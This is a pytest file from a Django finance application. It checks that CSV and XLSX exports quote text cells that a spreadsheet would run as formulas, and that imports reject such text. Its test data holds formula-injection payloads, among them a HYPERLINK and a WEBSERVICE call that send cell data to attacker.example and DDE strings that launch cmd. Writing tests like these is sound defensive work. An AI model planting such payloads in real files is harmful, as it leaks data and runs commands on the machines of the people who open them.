"""Issue 9 item 3: text that a spreadsheet would run as a formula, in every export and on import.

OWASP's rule: a text cell starting with =, +, -, @, tab or carriage return gets a leading single quote, so the
spreadsheet shows it as text. Numbers (negative amounts included) stay numbers.
"""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from channels_app.models import Counterparty
from contingency.models import CashFlowLine
from tests.factories import CashFlowLineFactory, CounterpartyFactory, FundingChannelFactory

pytestmark = pytest.mark.django_db

HOSTILE = {
    '=HYPERLINK("http://attacker.example/?"&A1,"Click")': '\'=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0": "'@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
}


@pytest.fixture
def hostile_book(company):
    lender = CounterpartyFactory(company=company, name='=WEBSERVICE("http://attacker.example")')
    for name in HOSTILE:
        FundingChannelFactory(company=company, counterparty=lender, name=name)
    CashFlowLineFactory(company=company, name="-Payroll", amount=Decimal("-1234.50"))
    return company


def _download(client, dataset, fmt) -> bytes:
    response = client.get(f"/api/v1/exports/{dataset}/", {"format": fmt})
    assert response.status_code == 200, response.content[:300]
    return b"".join(response.streaming_content)


def test_formula_text_in_a_csv_export_is_prefixed_with_a_quote(hostile_book, viewer, api_as):
    rows = list(csv.DictReader(io.StringIO(_download(api_as(viewer), "channels", "csv").decode("utf-8"))))
    assert sorted(row["name"] for row in rows) == sorted(HOSTILE.values())
    assert {row["counterparty_name"] for row in rows} == {'\'=WEBSERVICE("http://attacker.example")'}


def test_formula_text_in_an_xlsx_export_is_text_not_a_formula(hostile_book, viewer, api_as):
    sheet = openpyxl.load_workbook(io.BytesIO(_download(api_as(viewer), "channels", "xlsx"))).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    names = [row[header.index("name")] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in names)  # "f" would be a live formula
    # XML turns a carriage return into a line feed on reading; the quote is still the first character.
    assert sorted(cell.value for cell in names) == sorted(v.replace("\r", "\n") for v in HOSTILE.values())


def test_negative_amounts_stay_numbers_in_csv_and_xlsx_exports(hostile_book, viewer, api_as):
    client = api_as(viewer)
    (row,) = csv.DictReader(io.StringIO(_download(client, "cash-flow-lines", "csv").decode("utf-8")))
    assert row["amount"] == "-1234.50"
    assert row["name"] == "'-Payroll"
    sheet = openpyxl.load_workbook(io.BytesIO(_download(client, "cash-flow-lines", "xlsx"))).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    amount = sheet.cell(row=2, column=header.index("amount") + 1)
    assert amount.data_type == "n" and Decimal(str(amount.value)) == Decimal("-1234.50")


def _csv_upload(rows: list[list[str]]) -> SimpleUploadedFile:
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    return SimpleUploadedFile("upload.csv", buffer.getvalue().encode("utf-8"), content_type="text/csv")


@pytest.mark.parametrize("name", ["=1+1", "+SUM(A1)", "-2+3", "@SUM(A1)", "\t=1+1"])
def test_import_refuses_a_formula_in_a_text_column(name, company, analyst, api_as):
    response = api_as(analyst).post(
        "/api/v1/imports/counterparties/",
        {"file": _csv_upload([["name", "kind", "country"], [name, "bank", "CN"]]), "commit": "true"},
        format="multipart",
    )
    assert response.status_code == 400
    (error,) = response.json()["errors"]
    assert (error["row"], error["column"]) == (2, "name")
    assert "formula" in error["message"]
    assert not Counterparty.objects.filter(company=company).exists()


def test_import_takes_a_negative_amount_as_a_number(company, analyst, api_as):
    rows = [["name", "category", "amount", "currency", "start_date", "frequency"],
            ["Payroll", "operations", "-1234.50", "CNY", "2026-01-25", "monthly"]]  # fmt: skip
    response = api_as(analyst).post(
        "/api/v1/imports/cash-flows/", {"file": _csv_upload(rows), "commit": "true"}, format="multipart"
    )
    assert response.status_code == 201, response.json()
    assert CashFlowLine.objects.get(company=company).amount == Decimal("-1234.50")
